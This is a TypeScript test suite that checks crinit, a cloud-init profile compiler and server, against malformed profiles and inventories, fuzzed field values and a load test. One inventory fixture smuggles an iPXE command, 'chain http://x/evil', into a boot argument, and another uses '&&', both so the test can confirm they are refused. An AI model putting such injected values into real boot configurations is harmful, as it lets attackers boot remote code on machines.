/**
 * The reliability suite: malformed profiles and inventories (each with its exact exit code,
 * file:line:col and code), fuzzed values through five fields (each refused at its field or
 * written exactly as given), and crinit serve under a bounded load with a hostile reload. The
 * figures of docs/reliability.md are written by this file from what it counted; nobody types them.
 */
import { spawn } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { parse as parseToml } from 'smol-toml';
import { parse as parseYaml } from 'yaml';
import { afterAll, describe, expect, it } from 'vitest';
import { compile } from '../dist/index.js';
import { exitCodeFor } from '../dist/cli/io.js';
import { renderInventory } from '../dist/fleet.js';
import { fileContent, parseSysctl, runcmdArgv, type CloudConfig } from './cloud-config.js';
import { nasty, spliced } from './fuzz.js';
import { CLI, ROOT, runCli, tempDir, writeTemp } from './helpers.js';

/** What each area tried, handled as it should, and failed; written to docs/reliability.md. */
const figures: { area: string; tried: number; handled: number; failed: number; note: string }[] = [];

interface Expected {
  readonly name: string;
  readonly file: string;
  readonly text: string;
  /** file:line:col and code of the first error. */
  readonly at: string;
  readonly code: string;
}

const H = 'extends: debian-12/containerd\n';

/** The schema's leaves and mappings, as the profile writes them (three levels deep). */
function schemaCases(): Expected[] {
  const schema = JSON.parse(readFileSync(join(ROOT, 'profiles/profile.schema.json'), 'utf8')) as { definitions: Record<string, Schema>; properties: Record<string, Schema> };
  type Schema = { $ref?: string; type?: string; properties?: Record<string, Schema>; pattern?: string; enum?: unknown[]; format?: string };
  const deref = (s: Schema): Schema => (s.$ref ? schema.definitions[s.$ref.replace('#/definitions/', '')]! : s);
  const leaves: { path: string[]; type?: string; constrained: boolean }[] = [];
  const mappings: string[][] = [[]];
  const walk = (s: Schema, path: string[]): void => {
    const d = deref(s);
    if (path.length >= 3) return;
    if (d.type === 'object' && d.properties) {
      if (path.length) mappings.push(path);
      for (const [k, v] of Object.entries(d.properties)) walk(v, [...path, k]);
    } else if (path.length && path[0] !== 'extends') {
      leaves.push({ path, ...(d.type ? { type: d.type } : {}), constrained: !!(d.pattern || d.enum || d.format) });
    }
  };
  walk({ type: 'object', properties: schema.properties }, []);
  // key: value nested at the path, the value on the last line.
  const nest = (path: string[], value: string): string => path.map((k, i) => `${'  '.repeat(i)}${k}:${i === path.length - 1 ? ` ${value}` : ''}`).join('\n');
  const valueAt = (path: string[]): string => `m.yaml:${path.length + 1}:${2 * (path.length - 1) + path.at(-1)!.length + 3}`;
  return [
    // A value of the wrong type, at the value.
    ...leaves.map(({ path, type }) => ({ name: `${path.join('.')}: the wrong type`, file: 'm.yaml', text: `${H}${nest(path, type === 'array' ? '{a: 1}' : '[1]')}\n`, at: valueAt(path), code: 'E-SCHEMA' })),
    // A string outside the field's pattern, enum or format, at the value.
    ...leaves.filter((l) => l.constrained).map(({ path }) => ({ name: `${path.join('.')}: a value it does not take`, file: 'm.yaml', text: `${H}${nest(path, '"bad value\\t!"')}\n`, at: valueAt(path), code: 'E-SCHEMA' })),
    // An unknown key in each mapping, at the key.
    ...mappings.map((path) => ({
      name: `${path.join('.') || '(top level)'}: an unknown key`,
      file: 'm.yaml',
      text: path.length ? `${H}${nest(path, '')}\n${'  '.repeat(path.length)}bogus_key: 1\n` : `${H}bogus_key: 1\n`,
      at: `m.yaml:${path.length + 2}:${2 * path.length + 1}`,
      code: 'E-SCHEMA-UNKNOWN-KEY',
    })),
  ];
}

/** Hand-written profiles: YAML itself, extends, and the rules. Each location was read and judged right. */
const PROFILES: Expected[] = [
  { name: 'an unclosed quote (reported where the file ends)', file: 'm.yaml', text: `${H}description: "abc\n`, at: 'm.yaml:3:1', code: 'E-LOAD-SYNTAX' },
  { name: 'a tab as indentation', file: 'm.yaml', text: `${H}kernel:\n\tmodules: [ip_vs]\n`, at: 'm.yaml:3:1', code: 'E-LOAD-SYNTAX' },
  { name: 'a key given twice', file: 'm.yaml', text: `${H}description: a\ndescription: b\n`, at: 'm.yaml:3:1', code: 'E-LOAD-SYNTAX' },
  { name: 'an alias with no anchor', file: 'm.yaml', text: `${H}description: *nope\n`, at: 'm.yaml:2:14', code: 'E-LOAD-SYNTAX' },
  { name: 'a custom tag', file: 'm.yaml', text: `${H}description: !foo bar\n`, at: 'm.yaml:2:14', code: 'E-LOAD-SYNTAX' },
  { name: 'a list at the top level', file: 'm.yaml', text: '- a\n- b\n', at: 'm.yaml:1:1', code: 'E-LOAD-NOT-MAPPING' },
  { name: 'a scalar at the top level', file: 'm.yaml', text: 'just text\n', at: 'm.yaml:1:1', code: 'E-LOAD-NOT-MAPPING' },
  { name: 'an empty file', file: 'm.yaml', text: '', at: 'm.yaml:1:1', code: 'E-RULE-INCOMPLETE' },
  { name: 'a sequence under a mapping key, badly indented', file: 'm.yaml', text: `${H}kernel:\n  modules:\n - a\n`, at: 'm.yaml:3:11', code: 'E-LOAD-SYNTAX' },
  { name: 'an unclosed flow mapping', file: 'm.yaml', text: `${H}kernel: {modules: [a]\n`, at: 'm.yaml:3:1', code: 'E-LOAD-SYNTAX' },
  { name: 'extends a file that is not there', file: 'm.yaml', text: 'extends: ./nope.yaml\n', at: 'm.yaml:1:10', code: 'E-LOAD-NOT-FOUND' },
  { name: 'extends an unknown built-in', file: 'm.yaml', text: 'extends: debian-99/containerd\n', at: 'm.yaml:1:10', code: 'E-RESOLVE-UNKNOWN' },
  { name: 'extends that is not a string', file: 'm.yaml', text: 'extends: [a]\n', at: 'm.yaml:1:10', code: 'E-SCHEMA' },
  { name: 'no extends', file: 'm.yaml', text: 'description: x\n', at: 'm.yaml:1:1', code: 'E-RULE-INCOMPLETE' },
  { name: 'a runtime source the distro lacks', file: 'm.yaml', text: `${H}runtime:\n  source: builtin\n`, at: 'm.yaml:3:11', code: 'E-RULE-UNSUPPORTED' },
  { name: 'a containerd major crinit does not know', file: 'm.yaml', text: `${H}runtime:\n  version: "9.9"\n`, at: 'm.yaml:3:12', code: 'E-RULE-VERSION' },
  { name: 'ip_forward switched off', file: 'm.yaml', text: `${H}kernel:\n  sysctls:\n    net.ipv4.ip_forward: "0"\n`, at: 'm.yaml:4:26', code: 'E-RULE-REQUIRED' },
  { name: 'a Kubernetes release past its end of life', file: 'm.yaml', text: `${H}kubernetes:\n  version: "1.29"\n`, at: 'm.yaml:3:12', code: 'E-RULE-VERSION' },
  { name: "a file on crinit's sysctl.d path", file: 'm.yaml', text: `${H}files:\n  - path: /etc/sysctl.d/99-crinit-k8s.conf\n    content: x\n`, at: 'm.yaml:3:11', code: 'E-RULE-CONFLICT' },
  { name: 'two files with one path in a layer', file: 'm.yaml', text: `${H}files:\n  - path: /etc/a\n    content: x\n  - path: /etc/a\n    content: y\n`, at: 'm.yaml:5:11', code: 'E-RULE-CONFLICT' },
  { name: "a file in crinit's state directory", file: 'm.yaml', text: `${H}files:\n  - path: /var/lib/crinit/done\n    content: x\n`, at: 'm.yaml:3:11', code: 'E-RULE-CONFLICT' },
  { name: 'a proxy password with a bad %-escape', file: 'm.yaml', text: `${H}proxy:\n  http: "http://u:a%zz@proxy.example.com:3128"\n`, at: 'm.yaml:3:9', code: 'E-SCHEMA' },
  { name: 'a mirror from a URL to an image prefix', file: 'm.yaml', text: `${H}mirrors:\n  "https://pkgs.k8s.io/": "registry.example.com/k8s/"\n`, at: 'm.yaml:3:27', code: 'E-RULE-REFERENCE' },
  { name: 'a lone UTF-16 surrogate', file: 'm.yaml', text: `${H}description: "\\ud800"\n`, at: 'm.yaml:2:14', code: 'E-LOAD-ENCODING' },
  { name: 'a byte that is not UTF-8', file: 'm.yaml', text: `${H}description: "a\uFFFDb"\n`, at: 'm.yaml:2:16', code: 'E-LOAD-ENCODING' },
  { name: 'an Ignition key on a cloud-init distro', file: 'm.yaml', text: `${H}ignition:\n  version: "3.3.0"\n`, at: 'm.yaml:3:12', code: 'E-BACKEND-CAPABILITY' },
];

const P = 'profile: debian-12/containerd';
/** Inventories, YAML and CSV. Each location was read and judged right (CSV errors name the row). */
const INVENTORIES: Expected[] = [
  { name: 'an unknown key in a node', file: 'nodes.yaml', text: `nodes:\n  - {name: a, ${P}, colour: red}\n`, at: 'nodes.yaml:2:46', code: 'E-INVENTORY' },
  { name: 'an unknown key under defaults:', file: 'nodes.yaml', text: `defaults:\n  profil: x\nnodes:\n  - {name: a, ${P}}\n`, at: 'nodes.yaml:2:3', code: 'E-INVENTORY' },
  { name: 'an unknown key under boot:', file: 'nodes.yaml', text: `nodes:\n  - {name: a, ${P}, boot: {kernel: "http://x/k", initrd: "http://x/i", cmdline: x}}\n`, at: 'nodes.yaml:2:97', code: 'E-INVENTORY' },
  { name: 'a MAC address that is not one', file: 'nodes.yaml', text: `nodes:\n  - {name: a, mac: "zz", ${P}}\n`, at: 'nodes.yaml:2:5', code: 'E-INVENTORY' },
  { name: 'a node name with a space', file: 'nodes.yaml', text: `nodes:\n  - {name: "A B", ${P}}\n`, at: 'nodes.yaml:2:5', code: 'E-INVENTORY' },
  { name: 'a node with no profile', file: 'nodes.yaml', text: 'nodes:\n  - {name: a}\n', at: 'nodes.yaml:2:5', code: 'E-INVENTORY' },
  { name: 'a list as a variable', file: 'nodes.yaml', text: `nodes:\n  - {name: a, ${P}, vars: {x: [1]}}\n`, at: 'nodes.yaml:2:56', code: 'E-INVENTORY' },
  { name: 'two nodes with one name', file: 'nodes.yaml', text: `nodes:\n  - {name: a, ${P}}\n  - {name: a, ${P}}\n`, at: 'nodes.yaml:3:5', code: 'E-INVENTORY' },
  { name: 'two nodes with one MAC', file: 'nodes.yaml', text: `nodes:\n  - {name: a, mac: "52:54:00:00:00:01", ${P}}\n  - {name: b, mac: "52:54:00:00:00:01", ${P}}\n`, at: 'nodes.yaml:3:5', code: 'E-INVENTORY' },
  { name: 'a profile file that is not there', file: 'nodes.yaml', text: 'nodes:\n  - {name: a, profile: nope.yaml}\n', at: 'nodes.yaml:2:5', code: 'E-INVENTORY' },
  { name: 'YAML syntax', file: 'nodes.yaml', text: 'nodes:\n  - {name: a\n', at: 'nodes.yaml:3:1', code: 'E-INVENTORY' },
  { name: 'a list at the top level', file: 'nodes.yaml', text: '- a\n', at: 'nodes.yaml:1:1', code: 'E-INVENTORY' },
  { name: 'nodes: that is not a list', file: 'nodes.yaml', text: 'nodes: 3\n', at: 'nodes.yaml:1:8', code: 'E-INVENTORY' },
  { name: 'a value with a space', file: 'nodes.yaml', text: `nodes:\n  - {name: a, ${P}, vars: {x: "a b"}}\n`, at: 'nodes.yaml:2:5', code: 'E-INVENTORY' },
  { name: "a boot entry with iPXE's &&", file: 'nodes.yaml', text: `nodes:\n  - {name: a, ${P}, boot: {kernel: "http://x/k", initrd: "http://x/i", args: "a && b"}}\n`, at: 'nodes.yaml:2:5', code: 'E-INVENTORY' },
  { name: "a boot entry with iPXE's lone ;", file: 'nodes.yaml', text: `nodes:\n  - {name: a, ${P}, boot: {kernel: "http://x/k", initrd: "http://x/i", args: "console=ttyS0 ; chain http://x/evil"}}\n`, at: 'nodes.yaml:2:5', code: 'E-INVENTORY' },
  { name: 'a row of the wrong width', file: 'nodes.csv', text: 'name,profile\na,debian-12/containerd,extra\n', at: 'nodes.csv:2:1', code: 'E-INVENTORY' },
  { name: 'a header naming a column twice', file: 'nodes.csv', text: 'name,profile,name\na,debian-12/containerd,b\n', at: 'nodes.csv:1:1', code: 'E-INVENTORY' },
  { name: 'text after a closing quote', file: 'nodes.csv', text: 'name,profile\n"a"x,debian-12/containerd\n', at: 'nodes.csv:2:1', code: 'E-INVENTORY' },
  { name: 'an unclosed quote', file: 'nodes.csv', text: 'name,profile\n"a,debian-12/containerd\n', at: 'nodes.csv:2:1', code: 'E-INVENTORY' },
  { name: 'no name column', file: 'nodes.csv', text: 'host,profile\na,debian-12/containerd\n', at: 'nodes.csv:1:1', code: 'E-INVENTORY' },
  { name: 'a MAC address that is not one (CSV)', file: 'nodes.csv', text: 'name,mac,profile\na,zz,debian-12/containerd\n', at: 'nodes.csv:2:1', code: 'E-INVENTORY' },
  { name: 'a node name with _ (CSV)', file: 'nodes.csv', text: 'name,profile\nA_B,debian-12/containerd\n', at: 'nodes.csv:2:1', code: 'E-INVENTORY' },
  { name: 'a value with a space (CSV)', file: 'nodes.csv', text: 'name,profile,x\na,debian-12/containerd,a b\n', at: 'nodes.csv:2:1', code: 'E-INVENTORY' },
  { name: 'a byte that is not UTF-8 (CSV)', file: 'nodes.csv', text: 'name,profile\na\uFFFD,debian-12/containerd\n', at: 'nodes.csv:2:2', code: 'E-LOAD-ENCODING' },
];

/** The first error as file:line:col and code, and the exit code the CLI gives for the diagnostics. */
function outcome(diagnostics: readonly { severity: string; code: string; file?: string; position?: { line: number; col: number } }[]): { exit: number; first: string } {
  const d = diagnostics.find((x) => x.severity === 'error');
  return { exit: exitCodeFor(diagnostics as never), first: d ? `${d.file}:${d.position?.line}:${d.position?.col} ${d.code}` : 'no error' };
}

describe('reliability: malformed profiles and inventories', () => {
  const profiles = [...schemaCases(), ...PROFILES];

  it('refuses every malformed profile with exit 1 at its exact file:line:col and code, never as an internal error', () => {
    expect(profiles.length).toBeGreaterThanOrEqual(150);
    const failed: string[] = [];
    for (const c of profiles) {
      const r = compile({ profile: { path: c.file, text: c.text }, readFile: () => undefined });
      const got = outcome(r.diagnostics);
      if (got.exit !== 1 || got.first !== `${c.at} ${c.code}` || r.output !== undefined) failed.push(`${c.name}: exit ${got.exit}, ${got.first}; expected exit 1, ${c.at} ${c.code}`);
    }
    figures.push({ area: 'malformed profiles', tried: profiles.length, handled: profiles.length - failed.length, failed: failed.length, note: 'exit 1 at the exact file:line:col and code' });
    expect(failed).toEqual([]);
  });

  it('refuses every malformed inventory with exit 1 at its exact file:line:col and code', () => {
    const failed: string[] = [];
    for (const c of INVENTORIES) {
      const r = renderInventory(c.file, c.text, { readFile: () => undefined });
      const got = outcome(r.diagnostics);
      if (got.exit !== 1 || got.first !== `${c.at} ${c.code}` || r.outputs.length > 0) failed.push(`${c.name}: exit ${got.exit}, ${got.first}; expected exit 1, ${c.at} ${c.code}`);
    }
    figures.push({ area: 'malformed inventories', tried: INVENTORIES.length, handled: INVENTORIES.length - failed.length, failed: failed.length, note: 'exit 1 at the exact file:line:col and code, no output' });
    expect(failed).toEqual([]);
  });

  it('the command line gives the same exit code and location, and writes nothing, for a sample of them', () => {
    const sample = [...profiles.filter((_, i) => i % 25 === 0), ...INVENTORIES.filter((_, i) => i % 6 === 0)];
    for (const c of sample) {
      const dir = tempDir();
      writeTemp(dir, c.file, c.text);
      const r = c.file.startsWith('nodes') ? runCli(['render', '--inventory', c.file, '-o', 'out'], { cwd: dir }) : runCli(['render', c.file, '-o', 'out.yaml'], { cwd: dir });
      expect(r.status, `${c.name}: ${r.stderr}`).toBe(1);
      expect(r.stderr, c.name).toContain(`${c.at}: error ${c.code}`);
      expect(r.stdout).toBe('');
    }
  });
});

/** One field of the fuzz: where a value goes, and how it is read back from the output. */
interface Field {
  readonly name: string;
  readonly values: fc.Arbitrary<string>;
  readonly profile: (v: string) => Record<string, unknown>;
  /** The pointer a refusal must name in its message (as the user wrote it). */
  readonly named: RegExp;
  /** Whether the value arrived as given; a runcmd line is returned to be split by /bin/sh at the end, all in one go. */
  readonly readBack: (doc: CloudConfig, v: string) => boolean | { readonly line: string | string[]; readonly argv: string[] };
}

const FIELDS: Field[] = [
  {
    name: 'files[].content',
    values: fc.oneof(nasty, fc.string({ unit: 'binary' })),
    profile: (v) => ({ files: [{ path: '/etc/fuzz.conf', content: v }] }),
    named: /files\[0\]/,
    readBack: (d, v) => fileContent(d, '/etc/fuzz.conf') === v,
  },
  {
    name: 'files[].path',
    values: fc.oneof(spliced('/etc/fuzz.conf'), nasty),
    profile: (v) => ({ files: [{ path: v, content: 'x\n' }] }),
    named: /files\[0\]/,
    readBack: (d, v) => d.write_files.some((f) => f.path === v && f.content === 'x\n'),
  },
  {
    name: 'commands[] (shell)',
    values: fc.oneof(nasty, spliced('systemctl restart kubelet')),
    profile: (v) => ({ commands: [v] }),
    named: /commands\[0\]/,
    readBack: (d, v) => {
      // The raw runcmd entries (readBack gets the document as parsed, before /bin/sh splits them).
      const line = (d.runcmd as unknown as (string | string[])[]).find((x) => (typeof x === 'string' ? x.includes(' user-command-1 ') : x[1] === 'user-command-1'));
      return line === undefined ? false : { line, argv: ['/usr/local/sbin/crinit-step', 'user-command-1', '--', 'sh', '-c', v] };
    },
  },
  {
    name: 'runtime.sandboxImage',
    values: fc.oneof(spliced('registry.k8s.io/pause:3.10.2'), nasty),
    profile: (v) => ({ runtime: { sandboxImage: v } }),
    named: /runtime\.sandboxImage/,
    readBack: (d, v) => (parseToml(fileContent(d, '/var/lib/crinit/staged/etc/containerd/config.toml')) as { plugins: Record<string, { pinned_images?: { sandbox?: string } }> }).plugins['io.containerd.cri.v1.images']?.pinned_images?.sandbox === v,
  },
  {
    name: 'kernel.sysctls values',
    values: fc.oneof(spliced('262144'), nasty),
    profile: (v) => ({ kernel: { sysctls: { 'vm.max_map_count': v } } }),
    named: /kernel\.sysctls/,
    readBack: (d, v) => parseSysctl(fileContent(d, '/etc/sysctl.d/99-crinit-k8s.conf'))['vm.max_map_count'] === v,
  },
];

/** Values per field: five fields make 20,000 values a run. */
const PER_FIELD = 4000;

describe('reliability: fuzzed values', () => {
  it(`${PER_FIELD * FIELDS.length} values through ${FIELDS.length} fields: each is refused at its field or written exactly as given; no internal error`, () => {
    let tried = 0;
    let refused = 0;
    let exact = 0;
    const failed: string[] = [];
    const lines: { field: string; v: string; line: string | string[]; argv: string[] }[] = [];
    FIELDS.forEach((field, i) => {
      // Fixed seeds: the same values each run, so the figures are the same each run.
      for (const v of fc.sample(field.values, { numRuns: PER_FIELD, seed: 20261130 + i })) {
        tried++;
        const r = compile({ profile: { path: 'fuzz.yaml', text: JSON.stringify({ extends: 'ubuntu-24.04/containerd', ...field.profile(v) }) } });
        const errors = r.diagnostics.filter((d) => d.severity === 'error');
        if (errors.some((d) => d.code === 'E-INTERNAL')) failed.push(`${field.name} ${JSON.stringify(v)}: internal error ${errors[0]!.message}`);
        else if (r.output === undefined) {
          if (errors.length > 0 && errors.some((e) => field.named.test(e.message) && e.file === 'fuzz.yaml' && e.position)) refused++;
          else failed.push(`${field.name} ${JSON.stringify(v)}: refused without naming the field at a position: ${errors.map((e) => e.message).join('; ')}`);
        } else {
          const back = field.readBack(parseYaml(r.output, { version: '1.1' }) as CloudConfig, v);
          if (typeof back === 'object') lines.push({ field: field.name, v, ...back });
          else if (back) exact++;
          else failed.push(`${field.name} ${JSON.stringify(v)}: written, but not as given (a silent corruption)`);
        }
      }
    });
    runcmdArgv(lines.map((l) => l.line)).forEach((argv, i) => {
      const l = lines[i]!;
      if (JSON.stringify(argv) === JSON.stringify(l.argv)) exact++;
      else failed.push(`${l.field} ${JSON.stringify(l.v)}: written, but /bin/sh reads the runcmd line otherwise (a silent corruption)`);
    });
    figures.push({ area: 'fuzzed values', tried, handled: refused + exact, failed: failed.length, note: `${FIELDS.length} fields (${FIELDS.map((f) => f.name).join(', ')}); ${refused} refused at the field, ${exact} written exactly; 0 silent corruptions and 0 internal errors required` });
    expect(tried).toBeGreaterThanOrEqual(20000);
    expect(failed.slice(0, 20)).toEqual([]);
    // Both outcomes are exercised, so neither check is vacuous.
    expect(refused).toBeGreaterThan(1000);
    expect(exact).toBeGreaterThan(1000);
  });
});

describe('reliability: crinit serve under load', () => {
  it('answers 25,000 requests from 200 clients with no error, each within 1 s, through a hostile reload', async () => {
    const dir = tempDir();
    const inventory = (ip: string) => `nodes:\n  - {name: w1, mac: "52:54:00:00:00:01", profile: debian-12/containerd}\n  - {name: w2, mac: "52:54:00:00:00:02", profile: debian-12/containerd, vars: {ip: "${ip}"}}\n`;
    writeTemp(dir, 'nodes.yaml', inventory('10.0.0.1'));
    let log = '';
    const child = spawn(process.execPath, [CLI, 'serve', '--inventory', 'nodes.yaml', '--listen', '127.0.0.1:0'], { cwd: dir, stdio: ['ignore', 'ignore', 'pipe'] });
    child.stderr!.on('data', (d: Buffer) => (log += d.toString()));
    try {
      for (let i = 0; i < 200 && !/http:\/\/127\.0\.0\.1:\d+\//.test(log); i++) await new Promise((r) => setTimeout(r, 50));
      const base = `http://127.0.0.1:${/127\.0\.0\.1:(\d+)\//.exec(log)![1]}`;
      const TOTAL = 25000;
      const CLIENTS = 200;
      let sent = 0;
      let ok = 0;
      let slow = 0;
      let slowest = 0;
      const errors: string[] = [];
      const hostile = async (): Promise<void> => {
        // A reload of a large inventory (2,000 machines, every one checked and rendered), then a
        // broken one (kept out), then the first again: all while the clients keep asking.
        const big = Array.from({ length: 2000 }, (_, i) => `  - {name: n${i}, mac: "52:54:00:01:${((i >> 8) & 255).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}", profile: debian-12/containerd}`).join('\n');
        writeFileSync(join(dir, 'nodes.yaml'), `${inventory('10.0.0.2')}${big}\n`);
        child.kill('SIGHUP');
        for (let i = 0; i < 600 && !log.includes('reloaded nodes.yaml: 2002 machines'); i++) await new Promise((r) => setTimeout(r, 50));
        writeFileSync(join(dir, 'nodes.yaml'), 'nodes:\n  - {name: bad, mac: "nope", profile: debian-12/containerd}\n');
        child.kill('SIGHUP');
        for (let i = 0; i < 200 && !log.includes('kept the previous inventory'); i++) await new Promise((r) => setTimeout(r, 50));
      };
      let reload: Promise<void> | undefined;
      const client = async (): Promise<void> => {
        while (sent < TOTAL) {
          sent++;
          if (sent === 2000) reload = hostile();
          const mac = sent % 2 ? '52:54:00:00:00:01' : '52:54:00:00:00:02';
          const t = performance.now();
          try {
            const r = await fetch(`${base}/nocloud/${mac}/user-data`);
            const body = await r.text();
            const ms = performance.now() - t;
            slowest = Math.max(slowest, ms);
            if (ms >= 1000) slow++;
            if (r.status === 200 && body.startsWith('#cloud-config')) ok++;
            else errors.push(`${r.status}`);
          } catch (e) {
            errors.push((e as Error).message);
          }
        }
      };
      await Promise.all(Array.from({ length: CLIENTS }, client));
      await reload;
      figures.push({ area: 'serve load', tried: TOTAL, handled: ok - slow, failed: errors.length + slow, note: `${CLIENTS} concurrent clients over loopback; a reload to 2,002 machines and a broken inventory (kept out) during the load; answered within 1 s required (slowest ${Math.round(slowest)} ms this run)` });
      expect(errors.slice(0, 10)).toEqual([]);
      expect(ok).toBe(TOTAL);
      expect(slow).toBe(0);
      expect(log).toContain('reloaded nodes.yaml: 2002 machines');
      expect(log).toContain('kept the previous inventory: nodes.yaml has errors');
    } finally {
      child.kill('SIGTERM');
    }
  }, 300_000);
});

afterAll(() => {
  // Only a complete run rewrites the figures.
  if (figures.length < 4) return;
  const rows = figures.map((f) => `| ${f.area} | ${f.tried.toLocaleString('en-US')} | ${f.handled.toLocaleString('en-US')} | ${f.failed.toLocaleString('en-US')} | ${f.note} |`);
  const text = [
    '# Reliability',
    '',
    'Written by `test/reliability.test.ts` from what it counted in its last complete run; do not edit',
    'by hand. The suite runs in CI with the unit tests (`npm test`), and fails on any failure below.',
    '',
    '| area | tried | handled | failed | what counts as handled |',
    '|---|---|---|---|---|',
    ...rows,
    '',
  ].join('\n');
  writeFileSync(join(ROOT, 'docs/reliability.md'), text);
});
